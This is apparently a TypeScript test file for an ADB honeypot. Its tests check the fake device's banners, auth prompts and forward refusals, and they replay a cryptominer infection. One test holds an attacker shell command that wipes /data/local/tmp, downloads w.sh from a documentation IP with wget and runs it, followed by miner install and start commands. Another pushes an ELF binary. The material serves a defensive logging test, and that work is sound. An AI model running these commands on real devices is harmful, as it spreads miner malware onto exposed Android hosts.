import { describe, expect, it } from 'vitest';
import { encode } from '../adb/message.ts';
import { Memory } from '../memory.ts';
import { bodyOf, meet, type Stage } from '../play.ts';
import { adb } from './adb.ts';

const text = (bytes: Buffer) => bytes.toString('latin1');
const say = (command: string, arg0 = 0, arg1 = 0, data = '') =>
  text(encode(command, arg0, arg1, Buffer.from(data, 'latin1')));
const hello = say('CNXN', 0x0100_0000, 4_096, 'host::features=cmd\0');

/** What came back, message by message. */
function messages(answer: string) {
  const bytes = Buffer.from(answer, 'latin1');
  const list: { command: string; arg0: number; arg1: number; data: string }[] = [];
  for (let at = 0; at < bytes.length; ) {
    const size = bytes.readUInt32LE(at + 12);
    list.push({
      command: bytes.toString('latin1', at, at + 4),
      arg0: bytes.readUInt32LE(at + 4),
      arg1: bytes.readUInt32LE(at + 8),
      data: bytes.toString('latin1', at + 24, at + 24 + size),
    });
    at += 24 + size;
  }
  return list;
}

async function ask(services: string[], stage: Stage = {}) {
  const talk = meet(adb, stage);
  await talk.say(hello);
  const outputs: string[] = [];
  for (const [i, service] of services.entries()) {
    let output = '';
    let answer = messages(await talk.say(say('OPEN', i + 1, 0, `${service}\0`)));
    for (let turn = 0; turn < 50 && !answer.some(({ command }) => command === 'CLSE'); turn++) {
      const piece = answer.find(({ command }) => command === 'WRTE');
      output += piece?.data ?? '';
      answer = messages(await talk.say(say('OKAY', i + 1, i + 1)));
    }
    outputs.push(output);
  }
  await talk.leave();
  expect(talk.faults).toEqual([]);
  return {
    outputs,
    talk,
    bodies: talk.events.map(bodyOf).filter(({ kind }) => kind !== 'connect' && kind !== 'close'),
  };
}

describe('the transport', () => {
  it('greets as a box, no two alike', async () => {
    const banners = new Set<string>();
    for (const seed of ['a', 'b', 'c', 'd', 'e', 'f']) {
      const [answer] = messages(await meet(adb, { seed }).say(hello));
      expect(answer).toMatchObject({ command: 'CNXN', arg0: 0x0100_0000 });
      expect(answer!.data).toMatch(
        /^device::ro\.product\.name=\w+;ro\.product\.model=[\w -]+;ro\.product\.device=\w+;features=cmd,shell_v2$/,
      );
      expect(answer!.data).not.toMatch(/SM-G960F|starlte/);
      banners.add(answer!.data);
    }
    expect(banners.size).toBeGreaterThan(1);
  });

  it('closes on what is no message, and refuses services that it lacks', async () => {
    const talk = meet(adb);
    await talk.say('GET / HTTP/1.1\r\nHost: x\r\n\r\n');
    expect(talk.over).toBe(true);
    const other = meet(adb);
    await other.say(hello);
    expect(messages(await other.say(say('OPEN', 7, 0, 'tcp:80:192.0.2.1\0')))).toEqual([
      { command: 'CLSE', arg0: 0, arg1: 7, data: '' },
    ]);
    await other.leave();
    expect(other.events.map(bodyOf)).toContainEqual({ kind: 'forward', host: '192.0.2.1', port: 80 });
  });

  it('asks for a key where it should', async () => {
    const talk = meet(adb, { options: { auth: true } });
    expect(messages(await talk.say(hello))).toMatchObject([{ command: 'AUTH', arg0: 1 }]);
    expect(messages(await talk.say(say('AUTH', 2, 0, 'x'.repeat(256))))).toMatchObject([
      { command: 'AUTH', arg0: 1 },
    ]);
    expect(messages(await talk.say(say('AUTH', 3, 0, 'QUFB me@host\0')))).toMatchObject([
      { command: 'CNXN' },
    ]);
    expect(talk.events.map(bodyOf)).toContainEqual(
      expect.objectContaining({ kind: 'login', user: 'me@host', method: 'adb-key' }),
    );
  });
});

describe('A1: a miner comes by the debug bridge', () => {
  it('fetches, installs and starts', async () => {
    const memory = new Memory();
    const { outputs, bodies } = await ask(
      [
        'shell:cd /data/local/tmp/; rm *; busybox wget http://192.0.2.9/w.sh; sh w.sh',
        'shell:pm path com.ufo.miner',
        'shell:echo x > /data/local/tmp/ufo.apk; pm install /data/local/tmp/ufo.apk',
        'shell:am start -n com.ufo.miner/com.example.test.MainActivity',
        'shell:ps | grep trinity',
        'shell:getprop ro.product.cpu.abi; id',
      ],
      { memory },
    );
    expect(outputs[1]).toBe('');
    expect(outputs[2]).toContain('Success');
    expect(outputs[3]).toBe('Starting: Intent { cmp=com.ufo.miner/com.example.test.MainActivity }\n');
    expect(outputs[4]).toBe('');
    expect(outputs[5]).toMatch(/^arm\S+\nuid=0\(root\)/);
    expect(bodies).toContainEqual(
      expect.objectContaining({ kind: 'download', url: 'http://192.0.2.9/w.sh', tool: 'wget' }),
    );
    expect(bodies.filter(({ kind }) => kind === 'command')).toHaveLength(6);
    const next = await ask(['shell:pm path com.ufo.miner'], { memory });
    expect(next.outputs[0]).toBe('package:/data/app/com.ufo.miner-1/base.apk\n');
  });

  it('keeps what is pushed', async () => {
    const word = (n: number) => String.fromCharCode(n & 255, n >> 8, 0, 0);
    const talk = meet(adb);
    await talk.say(hello);
    await talk.say(say('OPEN', 1, 0, 'sync:\0'));
    const target = '/data/local/tmp/nohup,33261';
    const push = `SEND${word(target.length)}${target}DATA${word(5)}\x7fELF\x01DONE${word(1)}`;
    const answer = messages(await talk.say(say('WRTE', 1, 1, push)));
    expect(answer).toMatchObject([{ command: 'OKAY' }, { command: 'WRTE', data: 'OKAY\0\0\0\0' }]);
    await talk.leave();
    expect(talk.events.map(bodyOf)).toContainEqual(
      expect.objectContaining({
        kind: 'upload',
        name: '/data/local/tmp/nohup',
        size: 5,
        detail: { how: 'push', mode: '755', whole: true },
      }),
    );
  });
});
